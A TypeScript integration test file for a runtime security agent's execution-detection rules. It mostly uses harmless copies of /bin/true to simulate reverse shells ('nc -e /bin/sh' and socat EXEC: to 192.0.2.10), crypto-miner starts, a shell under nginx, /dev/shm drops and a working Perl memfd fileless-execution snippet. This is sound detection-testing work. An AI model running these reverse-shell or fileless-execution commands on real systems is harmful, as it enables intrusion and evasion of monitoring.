/**
 * Live: the execution rules (rules/30-execution.yaml). Programs are named by
 * the file they run from: copies of /bin/true called nc or xmrig are real
 * execs of processes with those names and arguments.
 */
import { execFileSync } from "node:child_process";
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, unlinkSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { exec, fakeContainer, LiveAgent, rulesLiveSkipReason } from "./rules-live-agent.js";

const skipReason = rulesLiveSkipReason();
if (skipReason) console.warn(`test/integration/rules-execution.test.ts skipped: ${skipReason}`);

describe.skipIf(skipReason !== undefined)("default rules: execution (live)", () => {
  let agent: LiveAgent;
  let work: string;

  /** A copy of /bin/true under `name` in the work directory. */
  function program(name: string): string {
    const path = join(work, name);
    if (!existsSync(path)) copyFileSync("/bin/true", path);
    return path;
  }

  beforeAll(async () => {
    work = mkdtempSync(join(tmpdir(), "pg-rules-exec-"));
    agent = await LiveAgent.start();
  });

  afterAll(async () => {
    await agent?.stop();
    rmSync(work, { recursive: true, force: true });
  });

  it("Shell spawned by a server process: a shell under 'nginx', not under another program", async () => {
    const rule = "Shell spawned by a server process";
    const nginx = join(work, "nginx");
    const app = join(work, "myapp");
    symlinkSync("/usr/bin/perl", nginx);
    symlinkSync("/usr/bin/perl", app);
    const benign = await exec(app, ["-e", 'system("/bin/sh", "-c", "exit 0")']);
    const attack = await exec(nginx, ["-e", 'system("/bin/sh", "-c", "id")']);
    const d = await agent.waitFor(
      (x) =>
        x.rule === rule &&
        x.output_fields["proc.pname"] === "nginx" &&
        x.output_fields["proc.cmdline"] === "sh -c id",
      rule,
    );
    expect(d).toMatchObject({
      priority: "Critical",
      tags: expect.arrayContaining(["T1059.004", "T1505.003"]),
    });
    expect(attack.stdout).toContain("uid=0");
    await agent.settle();
    expect(
      agent.detections.filter((x) => x.rule === rule && x.output_fields["proc.pname"] === "myapp"),
    ).toEqual([]);
    expect(benign.code).toBe(0);
  });

  it("Executable run from shared memory: a program in /dev/shm, not the same program elsewhere", async () => {
    const rule = "Executable run from shared memory";
    const dropped = `/dev/shm/peregrine-rules-test-${process.pid}`;
    copyFileSync("/bin/true", dropped);
    try {
      const benign = await exec(program("payload"), []);
      const attack = await exec(dropped, []);
      const d = await agent.waitForRule(rule, attack.pid);
      expect(d).toMatchObject({
        priority: "Warning",
        tags: expect.arrayContaining(["mitre_execution"]),
        output_fields: { "proc.exepath": dropped },
      });
      await agent.settle();
      expect(agent.of(benign.pid, rule)).toEqual([]);
    } finally {
      unlinkSync(dropped);
    }
  });

  it("Netcat started with command execution: nc -e and socat EXEC:, not nc -z", async () => {
    const rule = "Netcat started with command execution";
    const benign = await exec(program("nc"), ["-z", "-v", "127.0.0.1", "80"]);
    const nc = await exec(program("nc"), ["-e", "/bin/sh", "192.0.2.10", "4444"]);
    const socat = await exec(program("socat"), ["TCP:192.0.2.10:4444", "EXEC:/bin/bash,pty,stderr"]);
    const d = await agent.waitForRule(rule, nc.pid);
    expect(d).toMatchObject({
      priority: "Warning",
      tags: expect.arrayContaining(["T1059.004"]),
      output_fields: { "proc.name": "nc", "proc.cmdline": "nc -e /bin/sh 192.0.2.10 4444" },
    });
    await agent.waitForRule(rule, socat.pid);
    await agent.settle();
    expect(agent.of(benign.pid, rule)).toEqual([]);
  });

  it("Crypto miner started: by name and by a stratum pool argument, not a look-alike URL", async () => {
    const rule = "Crypto miner started";
    const benign = await exec(program("worker"), ["-o", "tcp://pool.example:3333"]);
    const byName = await exec(program("xmrig"), ["--donate-level", "1"]);
    const byPool = await exec(program("worker"), ["-o", "stratum+tcp://pool.example:3333", "-u", "wallet"]);
    const d = await agent.waitForRule(rule, byName.pid);
    expect(d).toMatchObject({ priority: "Critical", tags: expect.arrayContaining(["T1496"]) });
    const p = await agent.waitForRule(rule, byPool.pid);
    expect(p.output_fields["proc.cmdline"]).toBe("worker -o stratum+tcp://pool.example:3333 -u wallet");
    await agent.settle();
    expect(agent.of(benign.pid, rule)).toEqual([]);
  });

  it("Fileless execution from memory: /bin/true run from a memfd, not from its file", async () => {
    const rule = "Fileless execution from memory";
    // memfd_create (319), copy /bin/true into it, exec it through /proc/self/fd.
    const script = [
      'my $name = "payload"; my $fd = syscall(319, $name, 0); $fd >= 0 or die "memfd_create: $!";',
      'open(my $out, ">&=", $fd) or die; open(my $in, "<", "/bin/true") or die; binmode $in; binmode $out;',
      "local $/; my $bytes = <$in>; print {$out} $bytes; close $in; $out->flush;",
      'exec { "/proc/self/fd/$fd" } "payload", "--from-memory" or die "exec: $!";',
    ].join(" ");
    const benign = await exec("/usr/bin/perl", [
      "-e",
      'exec { "/bin/true" } "payload", "--from-disk" or die;',
    ]);
    const attack = await exec("/usr/bin/perl", ["-e", script]);
    expect(attack.stderr).toBe("");
    expect(attack.code).toBe(0);
    const d = await agent.waitForRule(rule, attack.pid);
    expect(d).toMatchObject({
      priority: "Critical",
      tags: expect.arrayContaining(["T1620"]),
      output_fields: { "proc.cmdline": expect.stringContaining("--from-memory") },
    });
    await agent.settle();
    expect(agent.of(benign.pid, rule)).toEqual([]);
  });

  it("Package manager started in a container: apt-get in a container cgroup, not on the host", async (ctx) => {
    const rule = "Package manager started in a container";
    const aptGet = program("apt-get");
    const benign = await exec(aptGet, ["install", "-y", "nmap"]);
    const container = fakeContainer("a9e7".repeat(16));
    if (container === undefined) return ctx.skip();
    try {
      const attack = await container.run(`${aptGet} install -y nmap`);
      const d = await agent.waitForRule(rule, attack.pid);
      expect(d).toMatchObject({
        priority: "Notice",
        tags: expect.arrayContaining(["T1072"]),
        output_fields: { "proc.name": "apt-get", "container.id": container.id },
      });
      await agent.settle();
    } finally {
      container.remove();
    }
    expect(agent.of(benign.pid, rule)).toEqual([]);
  });

  it("Program added to a running container started: a file of the overlay's upper layer, not one of the image", async (ctx) => {
    const rule = "Program added to a running container started";
    // An overlay like a container's root: the image below, the container's writes above.
    const layers = join(work, "overlay");
    for (const d of ["lower", "upper", "work", "merged"]) mkdirSync(join(layers, d), { recursive: true });
    copyFileSync("/bin/true", join(layers, "lower", "from-image"));
    const merged = join(layers, "merged");
    const options = `lowerdir=${join(layers, "lower")},upperdir=${join(layers, "upper")},workdir=${join(layers, "work")}`;
    execFileSync("mount", ["-t", "overlay", "overlay", "-o", options, merged]);
    const container = fakeContainer("d41f".repeat(16));
    try {
      if (container === undefined) return ctx.skip();
      copyFileSync("/bin/true", join(merged, "dropped"));
      const benign = await container.run(join(merged, "from-image"));
      const attack = await container.run(join(merged, "dropped"));
      const d = await agent.waitForRule(rule, attack.pid);
      expect(d).toMatchObject({
        priority: "Critical",
        tags: expect.arrayContaining(["T1105"]),
        output_fields: { "proc.name": "dropped", "container.id": container.id },
      });
      await agent.settle();
      expect(agent.of(benign.pid, rule)).toEqual([]);
    } finally {
      container?.remove();
      execFileSync("umount", ["-l", merged]);
    }
  });
});
